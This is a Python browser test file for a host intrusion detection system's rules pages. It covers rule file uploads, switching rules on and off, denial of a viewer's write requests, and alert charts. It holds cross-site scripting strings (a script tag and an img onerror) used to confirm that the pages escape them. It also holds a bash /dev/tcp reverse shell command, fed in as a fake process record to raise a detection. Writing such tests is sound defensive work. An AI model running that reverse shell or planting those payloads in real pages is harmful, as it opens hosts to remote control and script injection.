"""The rules pages in a real browser: upload a bad rule file (refused, its line shown, nothing
changes), upload a good one (it runs), switch a rule off and on, a viewer sees no control and is
refused anyway; the overview draws alerts once a real detection raised one. Hostile rule names,
descriptions and host names render as text."""

from __future__ import annotations

import uuid

import pytest

from elkeid import datatypes
from tests._support import wait_until
from tests.unit.server.manager.test_rules import BAD

from ._agents import ScriptedAgent, _record

pytestmark = pytest.mark.browser

SCRIPT = "<script>alert('rule')</script>"
IMG = '<img src=x onerror="alert(1)">'


def _good(rule_id: str) -> str:
    return f"""rules:
  - id: {rule_id}
    name: "{SCRIPT} ncat"
    description: '{IMG} ncat started'
    severity: high
    data_type: execve
    attack: [T1059]
    match: {{field: exe, endswith: /ncat-{rule_id}}}
"""


def _upload(tab, form: str, name: str, text: str, tmp_path, button: str) -> None:
    path = tmp_path / name
    path.write_text(text)
    tab.page.fill(f"form#form-{form} input[name=name]", name)
    tab.page.set_input_files(f"form#form-{form} input[name=file]", str(path))
    tab.follow(f"form#form-{form} button[value={button}]", f"{button} {name}")


def test_an_admin_uploads_rules_and_switches_one(server, open_tab, tmp_path):
    rule_id = f"browser_{uuid.uuid4().hex[:8]}"
    name = f"{rule_id}.yaml"
    with server.api() as api:
        total = api.get("/api/v1/rules").json()["total"]
    admin = open_tab("admin")
    admin.login("admin", server.admin_password)
    try:
        admin.goto("/rules", "rules page")
        page = admin.page
        assert page.locator('tr[data-rule="reverse_shell_dev_tcp"] td.hits').count() == 1
        admin.follow("a.button[href='/rule-files']", "rule files")

        _upload(admin, "rules", "broken.yaml", BAD.decode(), tmp_path, "upload")
        error = page.locator("#upload-rules .error")
        assert "rules refused, the running rules stay in force" in error.text_content()
        assert page.locator("#upload-rules table.issues td.where").first.text_content().strip() == "<api>/broken.yaml:9"
        assert page.locator("#upload-rules table.issues tr[data-issue=E134]").count() == 1
        with server.api() as api:
            assert api.get("/api/v1/rules").json()["total"] == total
            assert api.get("/api/v1/rules/custom_ok").status_code == 404

        _upload(admin, "rules", name, _good(rule_id), tmp_path, "check")
        assert "loads without errors" in page.locator("#upload-result h2").text_content()
        with server.api() as api:
            assert api.get(f"/api/v1/rules/{rule_id}").status_code == 404  # only checked
        _upload(admin, "rules", name, _good(rule_id), tmp_path, "upload")
        assert "is in force" in page.locator("#upload-result h2").text_content()
        assert page.locator(f'tr[data-file="{name}"]').count() == 1

        admin.goto(f"/rules?source=user&q={rule_id}", "the uploaded rule listed")
        row = page.locator(f'tr[data-rule="{rule_id}"]')
        assert row.locator(".rule-name").text_content() == f"{SCRIPT} ncat"  # shown as text
        admin.follow(f'tr[data-rule="{rule_id}"] a.rule-id', "the uploaded rule's page")
        assert page.locator(".rule-description").text_content() == f"{IMG} ncat started"
        assert page.locator("pre.rule-source").text_content().count("\n") == 7
        assert page.locator("img").count() == 0

        page.fill(f'form[data-switch="{rule_id}"] input[name=comment]', f"noisy {SCRIPT}")
        admin.follow(f'form[data-switch="{rule_id}"] button', "switched off")
        assert f"Rule {rule_id} is switched off" in page.locator(".notice").text_content()
        assert page.locator(".setting-comment").text_content() == f"noisy {SCRIPT}"
        with server.api() as api:
            assert api.get(f"/api/v1/rules/{rule_id}").json()["enabled"] is False
        admin.follow(f'form[data-switch="{rule_id}"] button', "switched on")
        with server.api() as api:
            assert api.get(f"/api/v1/rules/{rule_id}").json()["enabled"] is True
            actions = [e["action"] for e in api.get("/api/v1/audit", params={"target": rule_id}).json()["items"]]
            assert actions[:2] == ["rules.set_rule_enabled", "rules.set_rule_enabled"]

        admin.goto("/rule-files", "rule files again")
        page.click(f'tr[data-file="{name}"] details summary')
        admin.follow(f'tr[data-file="{name}"] button.danger', "deleted")
        assert "deleted" in page.locator(".notice").text_content()
        admin.errors = [e for e in admin.errors if "status of 400" not in e]  # the refused upload answers 400
        admin.assert_clean()
    finally:
        with server.api() as api:
            api.delete(f"/api/v1/rules/files/{name}")


def test_a_viewer_sees_no_rule_control_and_is_refused(server, open_tab):
    name, password = f"rv-{uuid.uuid4().hex[:6]}", "viewer-pass-77"
    with server.api() as api:
        assert api.post("/api/v1/users", json={"username": name, "password": password, "role": "viewer"}).status_code == 201
    viewer = open_tab("viewer")
    viewer.login(name, password)
    for path in ("/rules", "/rules/reverse_shell_dev_tcp", "/rule-files"):
        assert viewer.goto(path, f"{path} as viewer").status == 200
        forms = viewer.page.locator("form[method=post]")
        assert forms.count() == 1 and forms.get_attribute("action") == "/logout", path
    refused = viewer.page.evaluate("""async () => {
        const body = (fields) => new URLSearchParams({csrf_token: elkeid.csrfToken(), ...fields});
        const attempts = [
            ["/rules/reverse_shell_dev_tcp/enabled", {enabled: "off"}],
            ["/rules/reload", {}],
            ["/rule-files", {name: "x.yaml", mode: "upload"}],
            ["/rule-files/sigma", {name: "x.yaml", mode: "upload"}],
            ["/rule-files/x.yaml/delete", {}],
        ];
        const out = [];
        for (const [url, fields] of attempts) {
            out.push((await fetch(url, {method: "POST", body: body(fields)})).status);
        }
        return out;
    }""")
    assert refused == [403] * 5
    with server.api() as api:
        assert api.get("/api/v1/rules/reverse_shell_dev_tcp").json()["enabled"] is True
        denied = api.get("/api/v1/audit", params={"username": name, "outcome": "denied"}).json()["items"]
        assert {e["action"] for e in denied} == {"rules.set_rule_enabled", "rules.reload_rules",
                                                 "rules.upload_rule_file", "rules.import_sigma",
                                                 "rules.delete_rule_file"}  # fmt: skip
    viewer.errors = [e for e in viewer.errors if "403" not in e]
    viewer.assert_clean()


def test_the_overview_draws_alerts_raised_by_a_real_detection(server, open_tab):
    aid = f"alerting-{uuid.uuid4()}"
    hostname = f"{IMG}-{aid[-6:]}"
    shell = _record(datatypes.EXECVE, exe="/usr/bin/bash", argv="bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
                    pid="4242", ppid="1", hostname=hostname)  # fmt: skip
    scripted = ScriptedAgent(server, aid, hostname=hostname, records=[shell])
    try:
        with server.api() as api:
            def raised():
                items = api.get("/api/v1/alerts", params={"agent_id": aid}).json()["items"]
                return items or None

            wait_until(raised, 30, interval=0.5, message="the reverse shell alert")
        tab = open_tab("overview")
        tab.login("admin", server.admin_password)
        tab.goto("/", "overview with alerts")
        page = tab.page
        assert page.locator("#alerts-overview svg.chart--bars rect.series-critical").count() >= 1
        host_link = page.locator(f'#alerts-overview a[href="/hosts/{aid}"]')
        assert host_link.count() == 1 and host_link.locator("title").text_content() == hostname
        assert page.locator('#alerts-overview a[href="/alerts?rule_id=reverse_shell_dev_tcp"]').count() == 1
        live = page.locator('a[data-live-severity="critical"]')
        assert int(live.locator(".figure").text_content()) >= 1
        assert live.get_attribute("href") == "/alerts?severity=critical&status=open%2Cacknowledged"
        assert page.locator("img").count() == 0
        tab.assert_clean()
    finally:
        scripted.close()
